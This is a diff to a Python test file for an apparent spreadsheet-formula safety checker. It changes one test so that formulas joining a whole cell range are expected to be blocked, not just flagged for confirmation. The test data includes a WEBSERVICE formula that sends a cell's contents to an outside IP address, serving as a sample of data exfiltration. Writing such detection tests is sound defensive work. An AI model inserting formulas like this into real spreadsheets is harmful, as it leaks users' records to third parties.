@@ -34,7 +34,8 @@ def test_ordinary_formulas_and_text_with_bars_stay_quiet(text):
                                   '=WEBSERVICE("http://203.0.113.9/?k="&ENCODEURL(C3))'])
 def test_a_fetch_built_from_cells_asks(text):
     a = cell(text)
-    assert a.decision is Decision.CONFIRM, (text, a.rules)
+    # a whole range joined on (`A1:A50`) sends a column of records and blocks (`block.gui.formula-range-out`)
+    assert a.decision is (Decision.BLOCK if "A1:A50" in text else Decision.CONFIRM), (text, a.rules)
     assert "confirm.gui.formula-out" in a.rules
 
 
